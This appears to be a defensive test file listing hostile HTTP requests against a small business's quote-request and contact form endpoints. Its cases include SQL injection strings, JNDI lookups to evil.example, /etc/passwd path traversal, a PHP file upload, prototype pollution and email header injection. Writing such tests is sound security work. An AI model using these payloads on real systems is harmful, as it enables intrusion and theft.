import { aQuoteRequest } from "../../support/intake/aQuoteRequest";
import { form, json, quote } from "./builders";
import {
  accepted,
  badRequest,
  forbidden,
  type HostileCase,
  type HostileRequest,
  invalid,
  refused,
  wrongType,
} from "./HostileRequest";

const text = JSON.stringify(aQuoteRequest());
const allowPost = refused(405, "method_not_allowed", { allow: "POST" });
const notFound = refused(404, "not_found");
/** Netlify's own answer for a path without a Function. */
const elsewhere: Partial<HostileCase> = { only: "server" };

function typed(type: string | undefined, body: string | Uint8Array = text): HostileRequest {
  return { headers: type === undefined ? [] : [["Content-Type", type]], body: Buffer.from(body) };
}

const methods: HostileCase[] = [
  ...[
    "GET",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "PROPFIND",
    "TRACE",
    "QUERY",
    "LOCK",
    "M-SEARCH",
  ].map((method): HostileCase => ({
    name: method,
    request: { ...json(text), method },
    expect: allowPost,
  })),
  { name: "HEAD", request: { method: "HEAD" }, expect: allowPost },
  {
    name: "a GET with the request in its query",
    request: {
      method: "GET",
      path: `/api/quote-requests?${new URLSearchParams(aQuoteRequest()).toString()}`,
    },
    expect: allowPost,
  },
  {
    name: "a CORS preflight",
    request: {
      method: "OPTIONS",
      headers: [
        ["Origin", "https://evil.example"],
        ["Access-Control-Request-Method", "POST"],
        ["Access-Control-Request-Headers", "content-type"],
      ],
    },
    expect: allowPost,
  },
  {
    name: "X-HTTP-Method-Override on a GET",
    request: { ...json(text, [["X-HTTP-Method-Override", "POST"]]), method: "GET" },
    expect: allowPost,
  },
  {
    name: "X-HTTP-Method-Override on a POST",
    request: quote({}, [["X-HTTP-Method-Override", "DELETE"]]),
    expect: accepted,
  },
  {
    name: "_method in the address",
    request: { ...quote(), path: "/api/quote-requests?_method=DELETE" },
    expect: accepted,
  },
  {
    name: "_method in a form",
    request: form({ _method: "DELETE" }),
    expect: { status: 303, rows: 1, mails: 1 },
  },
  {
    name: "a request in the query with an empty body",
    request: {
      ...json("{}"),
      path: `/api/quote-requests?${new URLSearchParams(aQuoteRequest()).toString()}`,
    },
    expect: invalid(
      "firstName",
      "lastName",
      "email",
      "phone",
      "address",
      "homeSize",
      "serviceType",
    ),
  },
];

const contentTypes: HostileCase[] = [
  ...[
    "text/plain",
    "text/plain;charset=UTF-8",
    "text/json",
    "text/html",
    "application/xml",
    "application/octet-stream",
    "application/x-ndjson",
    "application/json-patch+json",
    "application/vnd.api+json",
    "application/jsonp",
    "application/javascript",
    "application/x-yaml",
    "application/json, text/plain",
    "application/json; charset=utf-16",
    "application/json; charset=utf-7",
    "application/json; charset=iso-8859-1",
    "application/json; charset=utf-8; boundary=x",
    "json",
    "*/*",
    "application/x-www-form-urlencoded; charset=shift_jis",
    "multipart/form-data",
    "multipart/form-data; boundary=x",
    "multipart/mixed; boundary=x",
    "Multipart/Form-Data; boundary=x",
    "image/png",
    "(application/json)",
  ].map((type): HostileCase => ({
    name: `Content-Type: ${type}`,
    request: typed(type),
    expect: wrongType,
  })),
  { name: "no Content-Type", request: typed(undefined), expect: wrongType },
  { name: "an empty Content-Type", request: typed(""), expect: wrongType },
  {
    name: "Content-Type of 4,000 letters",
    request: typed(`application/json; ${"x".repeat(4000)}`),
    expect: wrongType,
  },
  {
    name: "a real multipart form with a file",
    request: typed(
      "multipart/form-data; boundary=XX",
      [
        '--XX\r\nContent-Disposition: form-data; name="firstName"\r\n\r\nJane\r\n',
        '--XX\r\nContent-Disposition: form-data; name="f"; filename="../../x.php"\r\n\r\n<?php\r\n--XX--\r\n',
      ].join(""),
    ),
    expect: wrongType,
  },
  {
    name: "a multipart form that never ends",
    request: typed(
      "multipart/form-data; boundary=XX",
      '--XX\r\nContent-Disposition: form-data; name="f',
    ),
    expect: wrongType,
  },
  {
    name: "a multipart form with a field called __proto__",
    request: typed(
      "multipart/form-data; boundary=XX",
      '--XX\r\nContent-Disposition: form-data; name="__proto__[polluted]"\r\n\r\n1\r\n--XX--\r\n',
    ),
    expect: wrongType,
  },
  {
    name: "Content-Type in capitals",
    request: typed("APPLICATION/JSON; CHARSET=UTF-8"),
    expect: accepted,
  },
  {
    name: "Content-Type with a quoted charset",
    request: typed('application/json;charset="utf-8"'),
    expect: accepted,
  },
  {
    name: "Content-Type with blanks and semicolons",
    request: typed("application/json ; charset=utf-8 ;"),
    expect: accepted,
  },
  // Node keeps the first of two; Netlify joins them to an unknown type. Both are harmless.
  {
    name: "Content-Type twice, JSON first",
    request: {
      headers: [
        ["Content-Type", "application/json"],
        ["Content-Type", "text/plain"],
      ],
      body: Buffer.from(text),
    },
    expect: accepted,
    netlify: wrongType,
  },
  {
    name: "Content-Type twice, JSON last",
    request: {
      headers: [
        ["Content-Type", "text/plain"],
        ["Content-Type", "application/json"],
      ],
      body: Buffer.from(text),
    },
    expect: wrongType,
  },
];

const origins: HostileCase[] = [
  { name: "no Origin, as a program", request: quote(), expect: accepted },
  {
    name: "our own Origin",
    request: quote({}, [
      ["Origin", "https://www.dogwoodcleaning.example"],
      ["Sec-Fetch-Site", "same-origin"],
    ]),
    expect: accepted,
  },
  ...[
    "https://evil.example",
    "https://www.dogwoodcleaning.example:8443",
    "https://www.dogwoodcleaning.example.evil.example",
    "https://dogwoodcleaning.example",
    "https://evil.example/https://www.dogwoodcleaning.example",
    "https://www.dogwoodcleaning.example@evil.example",
    "null",
    "file://",
    "",
    "https://www.dogwoodcleaning.example, https://evil.example",
    "HTTPS://WWW.DOGWOODCLEANING.EXAMPLE.",
  ].map((origin): HostileCase => ({
    name: `Origin: ${origin}`,
    request: quote({}, [["Origin", origin]]),
    expect: forbidden,
  })),
  // A page under any name of the host that it posts to is ours, and over plain HTTP its browser sends no Sec-Fetch-Site.
  ...["http://www.dogwoodcleaning.example", "https://www.dogwoodcleaning.example/"].flatMap(
    (origin): HostileCase[] => [
      {
        name: `Origin: ${origin} at the same Host`,
        request: quote({}, [
          ["Host", "www.dogwoodcleaning.example"],
          ["Origin", origin],
        ]),
        expect: accepted,
      },
      {
        name: `Origin: ${origin} at another Host`,
        request: quote({}, [
          ["Host", "127.0.0.1:8000"],
          ["Origin", origin],
        ]),
        expect: forbidden,
      },
    ],
  ),
  {
    name: "Origin twice",
    request: quote({}, [
      ["Origin", "https://www.dogwoodcleaning.example"],
      ["Origin", "https://evil.example"],
    ]),
    expect: forbidden,
  },
  {
    name: "Sec-Fetch-Site: cross-site",
    request: quote({}, [["Sec-Fetch-Site", "cross-site"]]),
    expect: forbidden,
  },
  {
    name: "Sec-Fetch-Site: cross-site with our Origin",
    request: quote({}, [
      ["Sec-Fetch-Site", "cross-site"],
      ["Origin", "https://www.dogwoodcleaning.example"],
    ]),
    expect: forbidden,
  },
  {
    name: "Sec-Fetch-Site: same-site from another subdomain",
    request: quote({}, [
      ["Sec-Fetch-Site", "same-site"],
      ["Origin", "https://shop.dogwoodcleaning.example"],
    ]),
    expect: forbidden,
  },
  {
    name: "Sec-Fetch-Site: something new",
    request: quote({}, [["Sec-Fetch-Site", "galaxy"]]),
    expect: forbidden,
  },
  {
    name: "Sec-Fetch-Site: same-origin with a foreign Origin and Host",
    request: quote({}, [
      ["Sec-Fetch-Site", "same-origin"],
      ["Origin", "https://evil.example"],
    ]),
    expect: forbidden,
  },
  {
    name: "a form from another site",
    request: form({}, [
      ["Origin", "https://evil.example"],
      ["Sec-Fetch-Site", "cross-site"],
    ]),
    expect: { status: 403, rows: 0, mails: 0 },
  },
  {
    name: "a form opened from an email",
    request: form({}, [["Sec-Fetch-Site", "none"]]),
    expect: { status: 303, rows: 1, mails: 1 },
  },
];

const tricks: HostileCase[] = [
  {
    name: "a forged X-Forwarded-For",
    request: quote({}, [["X-Forwarded-For", "127.0.0.1, 10.0.0.1, evil"]]),
    expect: accepted,
  },
  {
    name: "X-Forwarded-For with an injection",
    request: quote({}, [
      ["X-Forwarded-For", "' OR 1=1; --"],
      ["X-Real-IP", "${jndi:ldap://evil.example/x}"],
    ]),
    expect: accepted,
  },
  {
    name: "X-Forwarded-For fifty times",
    request: quote(
      {},
      Array.from({ length: 50 }, (_, n): [string, string] => ["X-Forwarded-For", `10.0.0.${n}`]),
    ),
    expect: accepted,
  },
  {
    name: "X-Forwarded-Host and Forwarded",
    request: quote({}, [
      ["X-Forwarded-Host", "evil.example"],
      ["Forwarded", "host=evil.example;proto=http"],
      ["X-Forwarded-Proto", "http"],
    ]),
    expect: accepted,
  },
  {
    name: "X-Original-URL and X-Rewrite-URL",
    request: quote({}, [
      ["X-Original-URL", "/api/health"],
      ["X-Rewrite-URL", "/admin"],
    ]),
    expect: accepted,
  },
  { name: "a foreign Host", request: quote({}, [["Host", "evil.example"]]), expect: accepted },
  {
    name: "a foreign Host and the matching Origin",
    request: quote({}, [
      ["Host", "evil.example"],
      ["Origin", "https://evil.example"],
    ]),
    // docs/decisions/0064: a program can write both, and gains nothing that it has not without them.
    expect: accepted,
  },
  {
    name: "a foreign Host and another foreign Origin",
    request: quote({}, [
      ["Host", "evil.example"],
      ["Origin", "https://other.example"],
    ]),
    expect: forbidden,
  },
  {
    name: "a cookie of 4,000 letters",
    request: quote({}, [["Cookie", `__proto__=1; a=${"x".repeat(4000)}`]]),
    expect: accepted,
  },
  {
    name: "a bearer token",
    request: quote({}, [["Authorization", "Bearer eyJhbGciOiJub25lIn0.e30."]]),
    expect: accepted,
  },
  {
    name: "User-Agent with a Java expression",
    request: quote({}, [["User-Agent", "${jndi:ldap://evil.example/a}"]]),
    expect: accepted,
  },
  {
    name: "User-Agent with terminal codes",
    request: quote({}, [
      ["User-Agent", "\x9b31mred"],
      ["Referer", "javascript:alert(1)"],
    ]),
    expect: accepted,
  },
  { name: "Accept of anything", request: quote({}, [["Accept", "text/html"]]), expect: accepted },
  {
    name: "Range, If-Match and If-None-Match",
    request: quote({}, [
      ["Range", "bytes=0-1"],
      ["If-Match", '"x"'],
      ["If-None-Match", "*"],
    ]),
    expect: accepted,
  },
  {
    name: "Expect: 100-continue",
    request: quote({}, [["Expect", "100-continue"]]),
    expect: accepted,
  },
  { name: "Upgrade: websocket", request: quote({}, [["Upgrade", "websocket"]]), expect: accepted },
  {
    name: "Trailer and TE",
    request: quote({}, [
      ["Trailer", "X-Bad"],
      ["TE", "trailers"],
    ]),
    expect: accepted,
  },
  {
    name: "a header called __proto__",
    request: quote({}, [
      ["__proto__", "polluted"],
      ["constructor", "x"],
    ]),
    expect: accepted,
  },
  {
    name: "a hundred headers",
    request: quote(
      {},
      Array.from({ length: 100 }, (_, n): [string, string] => [`X-H${n}`, "x"]),
    ),
    expect: accepted,
  },
  {
    name: "Latin-1 bytes in a header",
    request: quote({}, [["X-Name", "Jos\xe9"]]),
    expect: accepted,
  },
];

const idempotencyKeys: HostileCase[] = [
  {
    name: "a key of 8 letters",
    request: quote({ details: "key 8" }, [["Idempotency-Key", "12345678"]]),
    expect: accepted,
  },
  {
    name: "a key of 255 letters",
    request: quote({ details: "key 255" }, [["Idempotency-Key", "k".repeat(255)]]),
    expect: accepted,
  },
  {
    name: "a key in quotes",
    request: quote({}, [["Idempotency-Key", '"c9f4dbb1-6a39-4a54-8e02-b0f8a0c9a1f2"']]),
    expect: accepted,
  },
  {
    name: "a key that is an injection",
    request: quote({}, [["Idempotency-Key", "x';drop/**/table/**/quote_requests;--"]]),
    expect: accepted,
  },
  {
    name: "a key called __proto__",
    request: quote({}, [["Idempotency-Key", "__proto__"]]),
    expect: accepted,
  },
  {
    name: "a key of 7 letters",
    request: quote({}, [["Idempotency-Key", "1234567"]]),
    expect: badRequest,
  },
  {
    name: "a key of 256 letters",
    request: quote({}, [["Idempotency-Key", "k".repeat(256)]]),
    expect: badRequest,
  },
  {
    name: "an empty key header",
    request: quote({}, [["Idempotency-Key", ""]]),
    expect: badRequest,
  },
  {
    name: "a key with a blank inside",
    request: quote({}, [["Idempotency-Key", "abcd efgh"]]),
    expect: badRequest,
  },
  {
    name: "a key with letters beyond ASCII",
    request: quote({}, [["Idempotency-Key", "caf\xe9caf\xe9caf\xe9"]]),
    expect: badRequest,
  },
  // Node joins repeats with a blank, Netlify without: there the two are one longer key.
  {
    name: "two keys",
    request: quote({}, [
      ["Idempotency-Key", "first-key-1"],
      ["Idempotency-Key", "second-key-2"],
    ]),
    expect: badRequest,
    netlify: accepted,
  },
];

const paths: HostileCase[] = [
  {
    name: "a query is ignored",
    request: { ...quote(), path: "/api/quote-requests?__proto__[polluted]=1&a[]=1&a[]=2&%ff" },
    expect: accepted,
  },
  ...[
    "/api/quote-requests/",
    "/api/quote-requests/../health",
    "/api/quote-requests%00",
    "/api/QUOTE-REQUESTS/x",
    "/api",
    "/api/",
    "/api/__proto__",
    "/api/constructor",
    "/api/../package.json",
    "/api/..%2f..%2f..%2fetc%2fpasswd",
    "/api/quote-requests.js",
    "/api//quote-requests",
    "/api/notifications",
    "/api/notifications/deliver",
  ].map((path): HostileCase => ({
    ...elsewhere,
    name: `POST ${path}`,
    request: { ...quote(), path },
    expect: notFound,
  })),
  {
    ...elsewhere,
    name: "POST /api/%ff, which is not UTF-8",
    request: { ...quote(), path: "/api/%ff" },
    expect: notFound,
  },
  {
    name: "health by POST",
    request: { ...json("{}"), path: "/api/health" },
    expect: refused(405, "method_not_allowed", { allow: "GET, HEAD" }),
  },
];

const contact = {
  name: "Sam Rivera",
  email: "sam@example.com",
  subject: "Gift cards",
  message: "Do you offer them?",
};
const toContact = (changes: Record<string, unknown>): HostileRequest => ({
  ...json({ ...contact, ...changes }),
  path: "/api/contact-messages",
});

const contactMessages: HostileCase[] = [
  { name: "a contact message", request: toContact({}), expect: accepted },
  {
    name: "a contact message with a phone",
    request: toContact({ phone: "+44 20 7946 0958" }),
    expect: accepted,
  },
  {
    name: "a contact subject with a second header",
    request: toContact({ subject: "Hi\r\nBcc: victim@example.com" }),
    expect: invalid("subject"),
  },
  {
    name: "a contact name with a second header",
    request: toContact({ name: "Sam\nTo: victim@example.com" }),
    expect: invalid("name"),
  },
  {
    name: "a contact message with elements",
    request: toContact({
      subject: "<b>Hi</b>",
      message: '<h1 onclick="x()">Hi</h1>\n.\r\n<style>*{display:none}</style>',
    }),
    expect: accepted,
  },
  {
    name: "an empty contact message",
    request: toContact({ message: "\u200b \u00a0" }),
    expect: invalid("message"),
  },
  {
    name: "a contact message that is an array",
    request: toContact({ message: ["x"] }),
    expect: invalid("message"),
  },
  {
    name: "a GET of contact messages",
    request: { method: "GET", path: "/api/contact-messages" },
    expect: allowPost,
  },
];

export const headers = [
  ...methods,
  ...contentTypes,
  ...origins,
  ...tricks,
  ...idempotencyKeys,
  ...paths,
  ...contactMessages,
];
